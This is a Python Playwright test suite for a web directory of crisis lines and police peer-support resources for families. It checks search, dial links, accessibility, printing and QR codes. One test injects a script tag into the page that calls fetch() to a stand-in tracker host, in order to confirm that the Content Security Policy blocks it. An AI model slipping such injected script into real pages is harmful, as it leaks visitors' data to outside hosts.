"""The families' directory in a real headless Chromium (Debian's, driven by Playwright):
it loads, search filters, links dial, the keyboard reaches every link, axe-core finds no
serious or critical problem, and it prints; screenshots for the README.

`.ci/run` installs Debian's chromium when it is missing. Set WELLCHECK_UPDATE_SCREENSHOTS=1
to write the screenshots into docs/ (otherwise they go to the test's temporary folder).
"""

from __future__ import annotations

import os
import shutil
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from adapters.web.directory_html import DirectoryHtml
from bots.bootstrap_services import Services
from bots.site import directory_html, directory_page

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
ROOT = Path(__file__).resolve().parents[2]
AXE = ROOT / "tests" / "vendor" / "axe-core" / "axe.min.js"
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PHONE = {"width": 390, "height": 844}

pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="Debian's chromium is not installed (.ci/run installs it)"
)


@pytest.fixture
def page_file(tmp_path: Path, agency_services: Services) -> Path:
    page = replace(
        directory_page(agency_services.bundle, agency_services.lookup),
        url="https://metro.example/families",
    )
    path = tmp_path / "index.html"
    path.write_text(DirectoryHtml().render(page), encoding="utf-8")
    return path


@pytest.fixture
async def browser() -> AsyncIterator[Any]:
    from playwright.async_api import async_playwright

    async with async_playwright() as playwright:
        launched = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            yield launched
        finally:
            await launched.close()


async def _open(browser: Any, path: Path, **options: Any) -> Any:
    context = await browser.new_context(viewport=PHONE, **options)
    page = await context.new_page()
    await page.goto(path.as_uri())
    return page


async def _visible_ids(page: Any) -> list[str]:
    return list(
        await page.eval_on_selector_all(
            "li.entry:not([hidden])", "els => els.map(e => e.dataset.id)"
        )
    )


async def test_search_as_you_type_narrows_the_list_below_the_crisis_lines(
    browser: Any, page_file: Path
) -> None:
    page = await _open(browser, page_file)
    everything = await _visible_ids(page)
    await page.fill("#q", "peer")
    found = await _visible_ids(page)
    assert found[:3] == ["lifeline-988", "copline", "crisis-text-line"]
    assert "metro-peer-team" in found and len(found) < len(everything)
    assert "match" in await page.inner_text("#status")
    await page.fill("#q", "qwxzv")
    assert await _visible_ids(page) == found[:3]
    assert "Nothing matched" in await page.inner_text("#status")
    await page.fill("#q", "")
    assert await _visible_ids(page) == everything


async def test_a_word_only_a_crisis_line_answers_says_so(
    browser: Any, tmp_path: Path, services: Services
) -> None:
    path = tmp_path / "index.html"  # the national directory alone: no agency file
    path.write_text(directory_html(services.bundle, services.lookup), encoding="utf-8")
    page = await _open(browser, path)
    await page.fill("#q", "divorce")  # Copline's: the chat answers it with Copline alone
    assert await _visible_ids(page) == ["lifeline-988", "copline", "crisis-text-line"]
    assert "crisis lines above are the match" in await page.inner_text("#status")


async def test_only_the_pages_own_script_and_style_run(browser: Any, page_file: Path) -> None:
    slipped = '<script>document.title = "ran"; fetch("https://tracker.example/?q=x")</script>'
    html = page_file.read_text(encoding="utf-8")
    page_file.write_text(html.replace("</footer>", f"</footer>{slipped}"), encoding="utf-8")
    page = await _open(browser, page_file)
    blocked: list[str] = []
    page.on("console", lambda message: blocked.append(message.text))
    await page.reload()
    assert await page.title() != "ran"
    assert any("Content Security Policy" in text for text in blocked)
    assert await page.is_visible("#q")  # the page's own script ran: the search is there
    assert await page.eval_on_selector("h1", "h => getComputedStyle(h).fontWeight") == "700"


async def test_without_javascript_everything_is_listed(browser: Any, page_file: Path) -> None:
    page = await _open(browser, page_file, java_script_enabled=False)
    assert len(await _visible_ids(page)) > 20
    assert not await page.is_visible("#q")


async def test_copline_is_on_the_first_screen_and_dials(browser: Any, page_file: Path) -> None:
    page = await _open(browser, page_file)
    call = page.locator('li[data-id="copline"] a.call')
    assert await call.get_attribute("href") == "tel:+18002675463"
    box = await call.bounding_box()
    assert box is not None and box["y"] + box["height"] <= PHONE["height"]
    text = page.locator('li[data-id="crisis-text-line"] a.text')
    assert await text.get_attribute("href") == "sms:741741?&body=BADGE"


async def test_the_keyboard_reaches_every_link(browser: Any, page_file: Path) -> None:
    page = await _open(browser, page_file)
    links = set(await page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)"))
    reached: set[str] = set()
    for _ in range(len(links) + 5):
        await page.keyboard.press("Tab")
        reached.add(await page.evaluate("document.activeElement.href || ''"))
    assert links <= reached


async def test_axe_finds_nothing_serious(browser: Any, page_file: Path) -> None:
    page = await _open(browser, page_file, bypass_csp=True)  # to add axe itself
    await page.add_script_tag(path=str(AXE))
    result = await page.evaluate(
        "axe.run(document, {runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']})"
    )
    bad = [
        (v["id"], v["impact"], len(v["nodes"]))
        for v in result["violations"]
        if v["impact"] in ("serious", "critical")
    ]
    assert bad == []


async def test_screenshots_at_phone_width_and_in_print(
    browser: Any, page_file: Path, tmp_path: Path
) -> None:
    out = ROOT / "docs" if os.environ.get("WELLCHECK_UPDATE_SCREENSHOTS") else tmp_path
    out.mkdir(exist_ok=True)
    page = await _open(browser, page_file)
    await page.screenshot(path=str(out / "directory-phone.png"))
    printed = await browser.new_context(viewport={"width": 794, "height": 1123})
    sheet = await printed.new_page()
    await sheet.goto(page_file.as_uri())
    await sheet.emulate_media(media="print")
    assert await sheet.is_visible(".handout svg")  # the QR code, on paper only
    await sheet.screenshot(path=str(out / "directory-print.png"), full_page=True)
    pdf = await sheet.pdf(format="Letter", print_background=False)
    pages = pdf.count(b"/Type /Page\n") + pdf.count(b"/Type /Page ") + pdf.count(b"/Type /Page/")
    assert pages == 1  # the whole directory and three of the agency's own on one page


@pytest.mark.skipif(
    shutil.which("zbarimg") is None, reason="zbar-tools is not installed (.ci/run installs it)"
)
async def test_the_printed_qr_code_scans_to_the_page(
    browser: Any, page_file: Path, tmp_path: Path
) -> None:
    import subprocess

    context = await browser.new_context(viewport={"width": 794, "height": 1123})
    sheet = await context.new_page()
    await sheet.goto(page_file.as_uri())
    await sheet.emulate_media(media="print")
    image = tmp_path / "qr.png"
    await sheet.locator(".handout").screenshot(path=str(image))
    scanned = subprocess.run(
        ["zbarimg", "--quiet", "--raw", str(image)], capture_output=True, text=True, check=False
    )
    assert scanned.stdout.strip() == "https://metro.example/families"


async def test_copline_and_the_peer_team_found_in_under_ten_seconds(
    browser: Any, page_file: Path
) -> None:
    import time

    started = time.monotonic()
    page = await _open(browser, page_file)
    await page.locator('li[data-id="copline"] a.call').wait_for(state="visible")
    await page.fill("#q", "peer support")
    await page.locator('li[data-id="metro-peer-team"] a.call').wait_for(state="visible")
    assert time.monotonic() - started < 10


HANDOUT_AGENCY = """\
agency:
  name: Lakeside Police Department
  public_url: https://lakeside.example/families
resources:
  - id: lakeside-peers
    name: Lakeside PD Peer Support Team
    summary: Officers from our own ranks, on call around the clock.
    categories: [peer-support]
    topics: [peer, partner]
    contact: {phone: "+1 608 555 2368"}
    source: [peer team roster]
    verified: 2026-11-26
"""


@pytest.mark.skipif(
    shutil.which("zbarimg") is None or shutil.which("pdftoppm") is None,
    reason="zbar-tools or poppler-utils is not installed (.ci/run installs them)",
)
def test_the_handout_pdf_is_one_sheet_whose_qr_code_scans(tmp_path: Path) -> None:
    import subprocess

    from bots.cli import main

    agency = tmp_path / "agency.yaml"
    agency.write_text(HANDOUT_AGENCY, encoding="utf-8")
    pdf = tmp_path / "out" / "handout.pdf"
    env = {"WELLCHECK_AGENCY_FILE": str(agency)}
    with pytest.MonkeyPatch.context() as patch:
        for name, value in env.items():
            patch.setenv(name, value)
        assert main(["site", "--handout", str(pdf)]) == 0
    pages = subprocess.run(
        ["pdftoppm", "-r", "150", "-png", str(pdf), str(tmp_path / "page")],
        capture_output=True,
        check=True,
    )
    assert pages.returncode == 0
    images = sorted(tmp_path.glob("page*.png"))
    assert len(images) == 1  # the handout is one page
    scanned = subprocess.run(
        ["zbarimg", "--quiet", "--raw", str(images[0])], capture_output=True, text=True
    )
    assert scanned.stdout.strip() == "https://lakeside.example/families"
